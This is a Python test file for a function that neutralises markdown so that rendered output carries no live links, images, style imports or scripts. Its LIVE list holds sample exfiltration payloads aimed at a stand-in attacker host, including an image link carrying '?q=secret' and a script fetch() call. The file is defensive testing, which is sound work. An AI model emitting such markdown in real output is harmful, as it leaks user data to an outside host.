from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from answers.inert import Inertly, inert

LIVE = [
    "![x](http://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "[click](<http://evil.example>)",
    "<http://evil.example>",
    "<eve@evil.example>",
    "[x]\n\n[x]: http://evil.example",
    "![x][y]\n\n> [y]: http://evil.example",
    "<img src=http://evil.example>",
    "<IMG\nsrc='http://evil.example'>",
    "<style>@import 'http://evil.example'</style>",
    "<script>fetch('http://evil.example')</script>",
    "`$` ![x](http://evil.example) `",
    "$![x](http://evil.example)$",
    "\\\\![x](http://evil.example)",
]
PLAIN = [
    "They get 25 days of leave [1], [2-4].",
    "| a<br>b | x < 3 | y<5 |",
    "See https://contoso.example.",
    "\\[1\\] and $[0, 1]$ and a List<int>",
    "- [ ] open",
]


@pytest.mark.parametrize("markdown", LIVE)
def test_nothing_leads_anywhere(markdown):
    html = MarkdownIt("commonmark", {"html": True}).render(inert(markdown))
    for live in ("<a ", "<img", "<IMG", "<style", "<script"):
        assert live not in html


@pytest.mark.parametrize("markdown", PLAIN)
def test_what_leads_nowhere_stays_as_it_is(markdown):
    assert inert(markdown) == markdown


@given(st.lists(st.sampled_from([*"[](:!<>/ b1\n", "br", "img", "style", *LIVE]), max_size=12))
def test_it_is_the_same_in_pieces(pieces):
    growing = Inertly()
    said = "".join(growing.take(piece) for piece in pieces) + growing.rest()
    assert said == inert("".join(pieces))
